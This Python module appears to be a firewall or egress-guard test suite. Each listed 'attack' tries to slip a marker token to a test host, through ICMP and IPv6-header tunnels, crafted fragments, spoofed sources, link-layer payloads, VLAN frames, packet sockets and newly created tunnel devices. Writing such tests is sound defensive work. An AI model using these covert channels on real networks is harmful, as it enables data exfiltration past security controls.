# SPDX-License-Identifier: GPL-2.0-or-later
"""The ways out and the ways in, by packets: the rows of the table.

Each function sends what it is about, with the attempt's token in it, and no more. The order is that
of the table; what changes the node's interfaces stands last.
"""

import contextlib
import fcntl
import os
import socket
import stat
import struct
import time
from functools import partial

import ground as g
import packets as p
from attempt import ATTACKS, STOPPED, attack, in_unit, section, words

STRANGERS = ((4, g.NODE4, g.STRANGER4), (6, g.NODE6, g.STRANGER6))
MSG_FASTOPEN = 0x20000000
UDP_SEGMENT, SOL_UDP = 103, 17
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
IP_TRANSPARENT, IP_FREEBIND = 19, 15
TUNSETIFF, IFF_TUN, IFF_TAP, IFF_NO_PI = 0x400454CA, 1, 2, 0x1000


# ---- sockets of every day ---------------------------------------------------------------------

section("TCP, UDP, MPTCP, ping and raw sockets")

def tcp(t, source, to, dport=9000, **more):
    t.marks.append(g.asks(source, to, t.port, dport))
    yield
    sock = t.connecting(to, dport, **more)
    yield
    sock.send(t.data())


def tcp_before(t, to, **more):
    sock = t.connected(to, 9000, **more)
    yield
    sock.send(t.data())


def udp_before(t, to, at="node"):
    sock = t.udp(to, 9000, at=at, data=b"before")
    sock.connect((to, 9000))
    sock.send(b"before")
    yield
    sock.send(t.data())


def ping(t, source, to, at="node"):
    protocol, message = p.echo(source, to, t.port, t.data())
    t.socket(p.family(to), socket.SOCK_RAW, protocol, at=at).sendto(message, (to, 0))


for version, node, stranger in STRANGERS:
    attack("out", f"TCP, IPv{version}")(partial(tcp, source=node, to=stranger))
    attack("out", f"UDP, IPv{version}")(lambda t, b=stranger: t.udp(b, 9000))
    attack("out", f"ping, IPv{version}")(partial(ping, source=node, to=stranger))
    attack("out", f"raw IP, IPv{version}")(
        lambda t, b=stranger: t.socket(p.family(b), socket.SOCK_RAW, 253).sendto(t.data(), (b, 0)))
    attack("out", f"TCP, connected before, IPv{version}")(partial(tcp_before, to=stranger))
    attack("out", f"UDP, connected before, IPv{version}")(partial(udp_before, to=stranger))


@attack("out", "UDP, beyond a router outside")
def udp_far(t):
    t.udp(g.FAR4, 9000)
    t.udp(g.FAR6, 9000)


@attack("out", "ping without privileges (datagram socket)")
def ping_datagram(t):
    sock = t.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    sock.sendto(p.icmp(8, 0, words(1, 1), t.data()), (g.STRANGER4, 0))


@attack("out", "TCP fast open: data in the first segment")
def fast_open(t):
    sock = t.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.sendto(t.data(), MSG_FASTOPEN, (g.STRANGER4, 9000))


@attack("out", "UDP, segmented by the kernel (UDP_SEGMENT)")
def udp_segment(t):
    sock = t.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(SOL_UDP, UDP_SEGMENT, 512)
    sock.sendto(t.data(4096), (g.STRANGER4, 9000))


@attack("out", "UDP, fragmented by the kernel")
def udp_large(t):
    t.udp(g.STRANGER4, 9000, data=t.data(4096))


@attack("out", "UDP, from an address that is not the node's")
def udp_spoofed(t):
    sock = t.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    sock.bind((g.CONTROL4, t.port))
    sock.sendto(t.data(), (g.STRANGER4, 9000))


@attack("out", "UDP to a device (the other side)")
def udp_device(t):
    t.udp(g.DEVICE4, 9000)


@attack("out", "MPTCP")
def mptcp(t):
    t.marks.append(g.asks(g.NODE4, g.STRANGER4, t.port, 9000))
    yield
    sock = t.connecting(g.STRANGER4, 9000, protocol=g.MPTCP)
    yield
    sock.send(t.data())


@attack("out", "MPTCP, connected before")
def mptcp_before(t):
    sock = t.connected(g.STRANGER4, 9001, protocol=g.MPTCP)
    yield
    sock.send(t.data())


@attack("out", "SCTP socket", lacks=True)
def sctp(t):
    t.marks.append(g.asks(g.NODE4, g.STRANGER4, t.port, 9000))
    yield
    t.connecting(g.STRANGER4, 9000, protocol=p.SCTP)


@attack("out", "a workload that the policy allows")
def workload(t):
    in_unit(t, lambda: t.udp(g.STRANGER4, 9000))
    in_unit(t, lambda: t.udp(g.FAR6, 9000))


@contextlib.contextmanager
def trusted():
    """As the agent's group: Defender's owner match lets that out; Cordon asks for addresses."""
    before = os.getegid()
    os.setegid(g.TRUSTED_GROUP)
    try:
        yield
    finally:
        os.setegid(before)


@attack("out", "a process with the group that a guard trusts")
def trusted_group(t):
    with trusted():
        t.udp(g.STRANGER4, 9000)


# ---- what looks like an answer, or like the keep list ------------------------------------------

section("what looks like DNS, an answer or the keep list")

@attack("out", "UDP from source port 53")
def from_53(t):
    t.udp(g.STRANGER4, 9000, sport=53)


@attack("out", "DNS to a stranger")
def dns_stranger(t):
    query = words(t.port, 0x0100, 1, 0, 0, 0) + b"\x08" + t.token + b"\x07example\0" + words(16, 1)
    t.udp(g.STRANGER4, 53, data=query)


@attack("out", "DNS by TCP to a stranger")
def dns_tcp(t):
    yield from tcp(t, g.NODE4, g.STRANGER4, 53)


@attack("out", "UDP from the port that serves, nobody asked")
def from_served(t):
    t.raw(p.ip4(g.NODE4, g.STRANGER4, p.UDP,
                p.udp(g.NODE4, g.STRANGER4, g.SERVED_PORT, t.port, t.data())))


@attack("out", "TCP segments of no connection (A, SA, PA, RA, FA)")
def stray_segments(t):
    for flags in ("A", "SA", "PA", "RA", "FA"):
        for sport in (t.port, g.SERVED_PORT):
            segment = p.tcp(g.NODE4, g.STRANGER4, sport, 9000, flags, t.data())
            t.raw(p.ip4(g.NODE4, g.STRANGER4, p.TCP, segment))


@attack("out", "another port of the control host")
def control_port(t):
    yield from tcp(t, g.NODE4, g.CONTROL4, g.KEPT_PORT + 1)


@attack("out", "UDP to the kept port of the control host")
def control_udp(t):
    t.udp(g.CONTROL4, g.KEPT_PORT)


@attack("out", "DNS by TCP to the resolver, of which UDP is kept")
def resolver_tcp(t):
    yield from tcp(t, g.NODE4, g.RESOLVER4, 53)


@attack("out", "the kept port of a stranger")
def kept_port_stranger(t):
    yield from tcp(t, g.NODE4, g.STRANGER4, g.KEPT_PORT)


# ---- ICMP --------------------------------------------------------------------------------------

section("ICMP errors and tunnels")

def send_icmp(t, message, to=g.STRANGER4):
    t.raw(p.ip4(g.NODE4, to, p.ICMP, message))


def send_icmp6(t, kind, code, rest, data, to=g.STRANGER6, hops=64, source=g.NODE6):
    message = p.icmp6(source, to, kind, code, rest, data)
    t.raw(p.ip6(source, to, p.ICMP6, message, hops))


@attack("out", "ICMP tunnel: answers to no request", open=STOPPED)
def echo_reply(t):
    send_icmp(t, p.icmp(0, 0, words(1, 1), t.data()))
    send_icmp(t, p.icmp(14, 0, words(1, 1), t.data(12)))


@attack("out", "ICMP tunnel: other types, known and unknown")
def icmp_types(t):
    for kind in (5, 9, 10, 13, 15, 17, 30, 40, 42, 200, 255):
        send_icmp(t, p.icmp(kind, 0, words(1, 1), t.data()))


@attack("out", "ICMP errors with payload, of no flow", open=STOPPED)
def icmp_error(t):
    quoted = p.ip4(g.STRANGER4, g.NODE4, p.UDP, p.udp(g.STRANGER4, g.NODE4, 9000, t.port, b""))
    for kind, code in ((3, 3), (3, 4), (11, 0), (12, 0)):
        send_icmp(t, p.icmp(kind, code, words(0, 0), quoted + t.data(512)))


@attack("out", "ICMP error to a stranger that quotes the kept flow", open=STOPPED)
def icmp_error_kept(t):
    quoted = p.ip4(g.CONTROL4, g.NODE4, p.TCP,
                   p.tcp(g.CONTROL4, g.NODE4, g.KEPT_PORT, 8000, "A"))
    send_icmp(t, p.icmp(3, 4, words(0, 0), quoted + t.data(512)))


@attack("out", "ICMPv6 answers and errors with payload, of no flow", open=STOPPED)
def icmp6_error(t):
    quoted = p.ip6(g.STRANGER6, g.NODE6, p.UDP, p.udp(g.STRANGER6, g.NODE6, 9000, t.port, b""))
    send_icmp6(t, 129, 0, words(1, 1), t.data())
    for kind in (1, 2, 3, 4):
        send_icmp6(t, kind, 0, words(0, 1280), quoted + t.data(512))


@attack("out", "ICMPv6 of other types")
def icmp6_types(t):
    for kind in (100, 137, 138, 139, 144, 150, 200, 255):
        send_icmp6(t, kind, 0, words(0, 0), t.data())


# ---- IPv6 extension headers --------------------------------------------------------------------

section("IPv6 extension headers")

def extended(t, name):
    inner = p.udp(g.NODE6, g.STRANGER6, t.port, t.port, t.data())
    segment = p.packed(g.STRANGER6)
    chains = {
        "hop-by-hop": (p.HOP, p.options6(p.UDP) + inner),
        "hop-by-hop, payload in the option": (p.HOP, p.options6(p.NONE, t.data(100))),
        "destination options": (p.DESTINATION, p.options6(p.UDP) + inner),
        "payload in a destination option": (p.DESTINATION, p.options6(p.NONE, t.data(100))),
        "routing, type 0": (p.ROUTING, p.routing6(p.UDP, 0, 1, words(0, 0) + segment) + inner),
        "routing, type 2": (p.ROUTING, p.routing6(p.UDP, 2, 1, words(0, 0) + segment) + inner),
        "routing, segments (type 4)": (p.ROUTING,
                                       p.routing6(p.UDP, 4, 1, words(0, 0) + segment) + inner),
        "routing, nothing left": (p.ROUTING, p.routing6(p.UDP, 253, 0, words(0, 0)) + inner),
        "atomic fragment": (p.FRAGMENT, p.fragment6(p.UDP, 0, 0, t.port, inner)),
        "authentication header": (p.AH, bytes((p.UDP, 1)) + words(0, 0, 1, 0, 1) + inner),
        "ESP": (p.ESP, words(0, t.port, 0, 1) + t.data()),
        "mobility": (135, bytes((p.NONE, 8, 200, 0)) + words(0, 0) + t.data(64)),
        "host identity": (139, bytes((p.NONE, 8, 1, 0x21)) + words(0, 0) + t.data(64)),
        "shim6": (140, bytes((p.NONE, 8, 1, 0)) + words(0, 0) + t.data(64)),
        "no next header, payload behind it": (p.NONE, t.data()),
        "experimental (253, 254)": (253, bytes((p.NONE, 8)) + words(0, 0, 0) + t.data(64)),
        "twelve in a chain": (p.DESTINATION, p.options6(p.DESTINATION) * 11 + p.options6(p.UDP) +
                              inner),
        "hop-by-hop not in front": (p.DESTINATION, p.options6(p.HOP) + p.options6(p.UDP) + inner),
    }
    following, data = chains[name]
    t.raw(p.ip6(g.NODE6, g.STRANGER6, following, data))


for chain, refused in (
        ("hop-by-hop", None), ("hop-by-hop, payload in the option", None),
        ("destination options", None), ("payload in a destination option", None),
        ("routing, type 0", STOPPED), ("routing, type 2", STOPPED),
        ("routing, segments (type 4)", STOPPED), ("routing, nothing left", None),
        ("atomic fragment", None), ("authentication header", None), ("ESP", None),
        ("mobility", None), ("host identity", None), ("shim6", None),
        ("no next header, payload behind it", None), ("experimental (253, 254)", None),
        ("twelve in a chain", STOPPED), ("hop-by-hop not in front", STOPPED)):
    attack("out", f"IPv6: {chain}", open=refused)(partial(extended, name=chain))


# ---- fragments ---------------------------------------------------------------------------------

section("fragments")

def pieces(t, sizes, protocol=p.UDP, inner=None):
    """[(offset, more, data)] of a packet cut after the sizes."""
    inner = inner or p.udp(g.NODE4, g.STRANGER4, t.port, t.port, t.data(128))
    cut, at = [], 0
    for size in sizes:
        cut.append((at, True, inner[at:at + size]))
        at += size
    return cut + [(at, False, inner[at:])]


def send_pieces(t, cut, protocol=p.UDP):
    for offset, more, data in cut:
        t.raw(p.ip4(g.NODE4, g.STRANGER4, protocol, data, ident=t.port,
                    fragment=offset // 8 | (0x2000 if more else 0)))


def send_pieces6(t, cut, following=p.UDP):
    for offset, more, data in cut:
        t.raw(p.ip6(g.NODE6, g.STRANGER6, p.FRAGMENT,
                    p.fragment6(following, offset, more, t.port, data)))


def pieces6(t, sizes):
    return pieces(t, sizes, inner=p.udp(g.NODE6, g.STRANGER6, t.port, t.port, t.data(128)))


@attack("out", "fragments, tiny: ports apart from payload")
def tiny(t):
    send_pieces(t, pieces(t, [8, 8, 8]))


@attack("out", "fragments, tiny: TCP flags in the second", open=STOPPED)
def tiny_tcp(t):
    inner = p.tcp(g.NODE4, g.STRANGER4, t.port, 9000, "S", t.data(128))
    send_pieces(t, pieces(t, [8, 8], inner=inner), p.TCP)


@attack("out", "fragments, overlapping")
def overlapping(t):
    cut = pieces(t, [40])
    kept = p.udp(g.NODE4, g.STRANGER4, 53, 53, b"\0" * 32)
    send_pieces(t, [(0, True, kept[:40]), (8, True, t.data(40)), (0, True, cut[0][2]), cut[1]])


@attack("out", "fragments, the last one first")
def reversed_order(t):
    send_pieces(t, pieces(t, [40, 40])[::-1])


@attack("out", "fragments, late ones without a first", open=STOPPED)
def orphan(t):
    send_pieces(t, pieces(t, [40, 40])[1:])


@attack("out", "fragments, late ones of a packet from before")
def late(t):
    inner = p.udp(g.NODE4, g.STRANGER4, t.port, t.port, b"\0" * 32 + t.data(64))
    cut = pieces(t, [40], inner=inner)
    send_pieces(t, cut[:1])
    yield
    send_pieces(t, cut[1:])


@attack("out", "IPv6 fragments, tiny")
def tiny6(t):
    send_pieces6(t, pieces6(t, [8, 8]))


@attack("out", "IPv6 fragments, overlapping")
def overlapping6(t):
    cut = pieces6(t, [40])
    send_pieces6(t, [cut[0], (8, True, t.data(40)), cut[1]])


@attack("out", "IPv6 fragments, late ones without a first", open=STOPPED)
def orphan6(t):
    send_pieces6(t, pieces6(t, [40, 40])[1:])


@attack("out", "IPv6 fragments, late ones of a packet from before")
def late6(t):
    inner = p.udp(g.NODE6, g.STRANGER6, t.port, t.port, b"\0" * 32 + t.data(64))
    cut = pieces(t, [40], inner=inner)
    send_pieces6(t, cut[:1])
    yield
    send_pieces6(t, cut[1:])


@attack("out", "IPv6 fragments, ports behind options in the second", open=STOPPED)
def split_chain6(t):
    inner = p.options6(p.UDP) + p.udp(g.NODE6, g.STRANGER6, t.port, t.port, t.data())
    cut = pieces(t, [8], inner=inner)
    send_pieces6(t, cut, p.DESTINATION)


# ---- IPv4 oddities and other protocols ----------------------------------------------------------

section("other protocols, options, tunnels as packets")

@attack("out", "IPv4 options: source routes", open=STOPPED)
def source_route(t):
    inner = p.udp(g.NODE4, g.STRANGER4, t.port, t.port, t.data())
    for kind in (131, 137):
        options = bytes((kind, 7, 4)) + p.packed(g.FAR4) + b"\0"
        t.frame(p.IPV4, p.ip4(g.NODE4, g.STRANGER4, p.UDP, inner, options=options))


@attack("out", "IPv4 options: payload in a record route")
def option_payload(t):
    options = bytes((7, 39, 4)) + t.data(36) + b"\0"
    inner = p.udp(g.NODE4, g.STRANGER4, t.port, t.port, b"")
    t.frame(p.IPV4, p.ip4(g.NODE4, g.STRANGER4, p.UDP, inner, options=options))


@attack("out", "each of the 256 protocol numbers, IPv4")
def protocols4(t):
    sock = t.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for protocol in range(256):
        sock.sendto(p.ip4(g.NODE4, g.STRANGER4, protocol, t.data(64)), (g.STRANGER4, 0))


@attack("out", "each of the 256 protocol numbers, IPv6")
def protocols6(t):
    sock = t.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for protocol in range(256):
        sock.sendto(p.ip6(g.NODE6, g.STRANGER6, protocol, t.data(64)), (g.STRANGER6, 0))


def wrapped(t, outer4, kind, head=b""):
    """A UDP packet in another one to the stranger."""
    inner = t.datagram(g.NODE4, g.FAR4) if kind != p.IN6 else t.datagram(g.NODE6, g.FAR6)
    if outer4:
        t.raw(p.ip4(g.NODE4, g.STRANGER4, kind, head + inner))
    else:
        t.raw(p.ip6(g.NODE6, g.STRANGER6, kind, head + inner))


attack("out", "IPIP packet")(lambda t: wrapped(t, True, p.IPIP))
attack("out", "GRE packet")(lambda t: wrapped(t, True, p.GRE, words(0, p.IPV4)))
attack("out", "SIT packet (6in4)")(lambda t: wrapped(t, True, p.IN6))
attack("out", "IPv4 in IPv6 packet")(lambda t: wrapped(t, False, p.IPIP))
attack("out", "IPv6 in IPv6 packet")(lambda t: wrapped(t, False, p.IN6))
attack("out", "GRE in IPv6 packet")(lambda t: wrapped(t, False, p.GRE, words(0, p.IPV4)))
attack("out", "ESP packet")(
    lambda t: t.raw(p.ip4(g.NODE4, g.STRANGER4, p.ESP, words(0, t.port, 0, 1) + t.data())))


@attack("out", "SCTP packet")
def sctp_packet(t):
    chunk = bytes((1, 0)) + words(20 + 64) + words(0, 1, 0, 65535, 1, 1, 0, 1) + t.data()
    t.raw(p.ip4(g.NODE4, g.STRANGER4, p.SCTP, words(t.port, 9000, 0, 0, 0, 0) + chunk))


# ---- to everybody on the link -------------------------------------------------------------------

section("broadcast, multicast, DHCP- and ND-shaped")

@attack("out", "broadcast")
def broadcast(t):
    for to in ("255.255.255.255", "10.1.0.255"):
        sock = t.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"wan0")
        sock.sendto(t.data(), (to, 9000))


@attack("out", "multicast (mDNS, SSDP, any group)")
def multicast(t):
    sock = t.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"wan0")
    for to, port in (("224.0.0.251", 5353), ("239.255.255.250", 1900), ("239.1.2.3", 9000)):
        sock.sendto(t.data(), (to, port))


@attack("out", "IPv6 multicast")
def multicast6(t):
    sock = t.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"wan0")
    for to, port in (("ff02::fb", 5353), ("ff02::1", 9000), ("ff0e::1", 9000)):
        sock.sendto(t.data(), (to, port))


@attack("out", "IGMP with payload")
def igmp(t):
    message = bytes((0x16, 0, 0, 0)) + p.packed("239.1.2.3") + t.data()
    t.raw(p.ip4(g.NODE4, "224.0.0.2", 2, message, ttl=1))


def dhcp(t, source, to):
    t.frame(p.IPV4, p.ip4(source, to, p.UDP, p.udp(source, to, 68, 67, p.dhcp(t.data(200)))))


@attack("out", "DHCP-shaped, to a stranger")
def dhcp_stranger(t):
    dhcp(t, g.NODE4, g.STRANGER4)


@attack("out", "DHCPv6-shaped, to a stranger")
def dhcp6_stranger(t):
    message = p.udp(g.NODE6, g.STRANGER6, 546, 547, b"\1\0\0\1" + words(1, 200) + t.data(200))
    t.raw(p.ip6(g.NODE6, g.STRANGER6, p.UDP, message))


@attack("out", "neighbour discovery-shaped, to a stranger")
def nd_stranger(t):
    for kind in (133, 134, 135, 136, 137):
        send_icmp6(t, kind, 0, words(0, 0), p.packed(g.FAR6) + t.data(), to=g.FAR6, hops=255)


@attack("out", "multicast listener report-shaped, to a stranger or long")
def mld_stranger(t):
    mld(t, 64, g.STRANGER6, g.FAR6)
    mld(t, 1024, "ff02::16")


def mld(t, size, *addresses):
    link = "fe80::1"
    for to in addresses:
        message = p.icmp6(link, to, 143, 0, words(0, 1), t.data(size))
        t.frame(p.IPV6, p.ip6(link, to, p.ICMP6, message, 1))


@attack("out", "ARP with a payload", open=STOPPED)
def arp_payload(t):
    node = t.ground.macs["node", "wan0"]
    t.frame(p.ARP, p.arp(1, node, g.NODE4, g.STRANGER4, t.data(200)))


# A built-in rule passes these on the link, or the node would lose its address and its neighbours; a
# program that listens there may be told something by them.
section("payload on the link, in what built-in rules pass")
ON_LINK = "a built-in rule passes it on the link"


@attack("out", "on the link: payload in a multicast listener report", known=ON_LINK, held=True)
def mld_link(t):
    mld(t, 256, "ff02::16")


def frame_icmp6(t, kind, source, to, data):
    message = p.icmp6(source, to, kind, 0, words(0, 0), data)
    t.frame(p.IPV6, p.ip6(source, to, p.ICMP6, message, 255))


@attack("out", "on the link: payload in neighbour solicitations", known=ON_LINK, held=True)
def nd_link(t):
    message = p.packed(g.STRANGER6) + b"\x0e\x05" + t.data(38)
    frame_icmp6(t, 135, g.NODE6, g.STRANGER6, message)


@attack("out", "on the link: payload in a router solicitation", known=ON_LINK, held=True)
def rs_link(t):
    frame_icmp6(t, 133, "fe80::1", "ff02::2", b"\x0e\x05" + t.data(38))


@attack("out", "on the link: payload in a DHCP broadcast", known=ON_LINK, held=True)
def dhcp_link(t):
    dhcp(t, "0.0.0.0", "255.255.255.255")


@attack("out", "on the link: payload in DHCPv6 to all servers", known=ON_LINK, held=True)
def dhcp6_link(t):
    link, to = "fe80::1", "ff02::1:2"
    message = p.udp(link, to, 546, 547, b"\1\0\0\1" + words(1, 200) + t.data(200))
    t.frame(p.IPV6, p.ip6(link, to, p.UDP, message))


@attack("out", "on the link: a word in the padding of ARP", known=ON_LINK, held=True)
def arp_padding(t):
    node = t.ground.macs["node", "wan0"]
    t.frame(p.ARP, p.arp(1, node, g.NODE4, g.STRANGER4, t.data(18)))


# ---- frames ------------------------------------------------------------------------------------

section("packet sockets, VLANs, ethertypes, AF_XDP")

@attack("out", "packet socket")
def packet_socket(t):
    t.frame(p.IPV4, t.datagram(g.NODE4, g.STRANGER4))
    t.frame(p.IPV6, t.datagram(g.NODE6, g.STRANGER6))


@attack("out", "packet socket, to a device (the other side)")
def packet_socket_device(t):
    t.frame(p.IPV4, t.datagram(g.INSIDE4, g.DEVICE4), interface="lan0")


@attack("out", "packet socket with PACKET_QDISC_BYPASS", known="sends past tc")
def qdisc_bypass(t):
    t.frame(p.IPV4, t.datagram(g.NODE4, g.STRANGER4),
            options=[(SOL_PACKET, PACKET_QDISC_BYPASS, 1)])


@attack("out", "ethertypes other than IP", open=STOPPED)
def ethertypes(t):
    for ethertype in (0x88B5, 0x88CC, 0x8864, 0x8847, 0x888E, 0x88E5, 0x8035, 0x6003, 0x0001,
                      0x05DC, 0x0040, 0xFFFF):
        t.frame(ethertype, t.data())


@attack("out", "VLAN tag")
def vlan(t):
    t.frame(p.VLAN, p.tag(7, p.IPV4, t.datagram(g.NODE4, g.STRANGER4)))


@attack("out", "VLAN tag with priority only")
def vlan_priority(t):
    t.frame(p.VLAN, p.tag(0xE000, p.IPV4, t.datagram(g.NODE4, g.STRANGER4)))


@attack("out", "QinQ")
def qinq(t):
    t.frame(p.QINQ, p.tag(7, p.VLAN, p.tag(8, p.IPV4, t.datagram(g.NODE4, g.STRANGER4))))


@attack("out", "three VLAN tags", open=STOPPED)
def vlan_three(t):
    data = p.tag(7, p.VLAN, p.tag(8, p.VLAN, p.tag(9, p.IPV4, t.datagram(g.NODE4, g.STRANGER4))))
    t.frame(p.QINQ, data)


@attack("out", "AF_XDP", known="sends past tc", lacks=True)
def af_xdp(t):
    macs = t.ground.macs
    frame = p.ether(macs["wan0", "eth0"], macs["node", "wan0"], p.IPV4,
                    t.datagram(g.NODE4, g.STRANGER4))
    t.ground.run(f"{t.ground.build}/tests/attack/xsk_helper", "wan0", frame.hex())


# ---- through the node --------------------------------------------------------------------------

section("forwarding, for a device")

for version, device, stranger in ((4, g.DEVICE4, g.STRANGER4), (6, g.DEVICE6, g.STRANGER6)):
    attack("through", f"a device's TCP, IPv{version}")(
        partial(tcp, source=device, to=stranger, at="lan0"))
    attack("through", f"a device's UDP, IPv{version}")(
        lambda t, b=stranger: t.udp(b, 9000, at="lan0"))
    attack("through", f"a device's ping, IPv{version}")(
        partial(ping, source=device, to=stranger, at="lan0"))
    attack("through", f"a device's TCP, connected before, IPv{version}")(
        partial(tcp_before, to=stranger, at="lan0"))
    attack("through", f"a device's UDP, connected before, IPv{version}")(
        partial(udp_before, to=stranger, at="lan0"))


@attack("through", "a device's other protocols, fragments and tunnels")
def device_raw(t):
    for protocol in (p.GRE, p.IPIP, p.ESP, p.SCTP, 253):
        t.raw(p.ip4(g.DEVICE4, g.STRANGER4, protocol, t.data()), at="lan0")
    t.udp(g.STRANGER4, 9000, at="lan0", data=t.data(4096))


@attack("through", "a device, to the control host's kept port")
def device_kept(t):
    yield from tcp(t, g.DEVICE4, g.CONTROL4, g.KEPT_PORT, at="lan0")


@attack("through", "a device that takes the control host's address", open=STOPPED)
def device_spoofed(t):
    t.frame(p.IPV4, t.datagram(g.CONTROL4, g.STRANGER4), interface="eth0", at="lan0")


@attack("back", "from outside to a device")
def to_device(t):
    t.udp(g.DEVICE4, 9000, at="wan0", source=g.STRANGER4)
    t.udp(g.DEVICE6, 9000, at="wan0", source=g.STRANGER6)


# ---- ways in -----------------------------------------------------------------------------------

section("ways in")

def tcp_in(t, to, source):
    yield
    sock = t.connecting(to, g.SERVED_PORT, at="wan0", source=source)
    yield
    sock.send(t.data())


attack("in", "listening TCP socket, IPv4", served=True)(
    partial(tcp_in, to=g.NODE4, source=g.STRANGER4))
attack("in", "listening TCP socket, IPv6", served=True)(
    partial(tcp_in, to=g.NODE6, source=g.STRANGER6))


@attack("in", "listening TCP socket, connected before", served=True)
def tcp_in_before(t):
    sock = t.connected(g.NODE4, g.SERVED_PORT, at="wan0", source=g.STRANGER4)
    yield
    sock.send(t.data())


@attack("in", "listening UDP socket, IPv4", served=True)
def udp_in(t):
    t.udp(g.NODE4, g.SERVED_PORT, at="wan0", source=g.STRANGER4)


@attack("in", "listening UDP socket, IPv6", served=True)
def udp_in6(t):
    t.udp(g.NODE6, g.SERVED_PORT, at="wan0", source=g.STRANGER6)


@attack("in", "UDP fragments", served=True)
def fragments_in(t):
    t.udp(g.NODE4, g.SERVED_PORT, at="wan0", source=g.STRANGER4, data=t.data(4096))


@attack("in", "UDP behind IPv6 destination options", served=True)
def options_in(t):
    inner = p.udp(g.STRANGER6, g.NODE6, t.port, g.SERVED_PORT, t.data())
    t.raw(p.ip6(g.STRANGER6, g.NODE6, p.DESTINATION, p.options6(p.UDP) + inner), at="wan0")


@attack("in", "ping with a payload", served=True)
def ping_in(t):
    t.raw(p.ip4(g.STRANGER4, g.NODE4, *p.echo(g.STRANGER4, g.NODE4, t.port, t.data())), at="wan0")


@attack("in", "ICMP error with a payload, of no flow", open=STOPPED)
def icmp_error_in(t):
    quoted = p.ip4(g.NODE4, g.STRANGER4, p.UDP, p.udp(g.NODE4, g.STRANGER4, t.port, 9000, b""))
    t.raw(p.ip4(g.STRANGER4, g.NODE4, p.ICMP,
                p.icmp(3, 4, words(0, 0), quoted + t.data(128))), at="wan0")


@attack("in", "raw IP, to a raw socket", served=True)
def raw_in(t):
    t.raw(p.ip4(g.STRANGER4, g.NODE4, 253, t.data()), at="wan0")


@attack("in", "an answer to UDP from before")
def answer_in(t):
    sock = t.udp(g.STRANGER4, 9002, sport=t.port, data=b"before")
    t.ears.add(sock)
    yield
    t.udp(g.NODE4, t.port, sport=9002, at="wan0", source=g.STRANGER4)


@attack("in", "UDP from source port 53", served=True)
def from_53_in(t):
    t.udp(g.NODE4, g.SERVED_PORT, sport=53, at="wan0", source=g.STRANGER4)


@attack("in", "broadcast and multicast", served=True)
def multicast_in(t):
    for to in ("255.255.255.255", "224.0.0.251"):
        sock = t.socket(socket.AF_INET, socket.SOCK_DGRAM, at="wan0")
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        sock.sendto(t.data(), (to, g.SERVED_PORT))


@attack("in", "a packet socket that listens on the node", known="packet sockets hear before tc")
def sniffer(t):
    sock = t.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(g.ETH_P_ALL))
    sock.setsockopt(socket.SOL_SOCKET, g.SO_RCVBUFFORCE, 64 << 20)
    yield
    t.udp(g.NODE4, 9999, at="wan0", source=g.STRANGER4)
    yield
    while not t.passed:
        t.passed = t.token in sock.recv(65535)


@attack("in", "VLAN tag with priority only", served=True)
def vlan_in(t):
    packet = p.ip4(g.STRANGER4, g.NODE4, p.UDP,
                   p.udp(g.STRANGER4, g.NODE4, t.port, g.SERVED_PORT, t.data()))
    t.frame(p.VLAN, p.tag(0xE000, p.IPV4, packet), interface="eth0", at="wan0")


# ---- what the node is made to do for it ---------------------------------------------------------

section("devices, namespaces, routes made afterwards")

def device(t, name, kind, *, family=4, mtu=None):
    """A new device towards the stranger, with an address on it; and a packet by it."""
    t.ground.ip(f"link add {name} type {kind}")
    t.ground.made.append(name)
    address, far = (f"10.88.{t.number}.1/24", f"10.88.{t.number}.2") if family == 4 else \
        (f"fd88:{t.number}::1/64", f"fd88:{t.number}::2")
    t.ground.ip(f"address add {address} dev {name}" + (" nodad" if family == 6 else ""),
                f"link set {name} up" + (f" mtu {mtu}" if mtu else ""))
    t.ground.ip(f"neighbour replace {far} lladdr 02:00:00:00:00:07 dev {name}", check=False)
    t.udp(far, 9000)


ENDS4 = f"local {g.NODE4} remote {g.STRANGER4}"
ENDS6 = f"local {g.NODE6} remote {g.STRANGER6}"
VXLAN = f"vxlan id 7 {ENDS4} dstport 4789"

attack("out", "VXLAN device")(lambda t: device(t, "at-vxlan", VXLAN))
attack("out", "VXLAN device over IPv6")(
    lambda t: device(t, "at-vxlan6", f"vxlan id 8 {ENDS6} dstport 4789"))
attack("out", "GENEVE device", lacks=True)(
    lambda t: device(t, "at-geneve", f"geneve id 7 remote {g.STRANGER4}"))
attack("out", "IPIP device", lacks=True)(lambda t: device(t, "at-ipip", f"ipip {ENDS4}"))
attack("out", "GRE device", lacks=True)(lambda t: device(t, "at-gre", f"gre {ENDS4}"))
attack("out", "GRE device with Ethernet", lacks=True)(
    lambda t: device(t, "at-gretap", f"gretap {ENDS4}"))
attack("out", "SIT device", lacks=True)(lambda t: device(t, "at-sit", f"sit {ENDS4}", family=6))
attack("out", "IPv6 tunnel device", lacks=True)(
    lambda t: device(t, "at-ip6tnl", f"ip6tnl mode any {ENDS6}"))
attack("out", "VLAN device", lacks=True)(lambda t: vlan_device(t, "at-vlan", "wan0", 7))
attack("out", "QinQ device", lacks=True)(lambda t: qinq_device(t))
attack("out", "macvlan device")(lambda t: child(t, "at-macvlan", "macvlan mode bridge"))
attack("out", "ipvlan device", lacks=True, open=STOPPED)(
    lambda t: child(t, "at-ipvlan", "ipvlan mode l2", parent="lan0"))


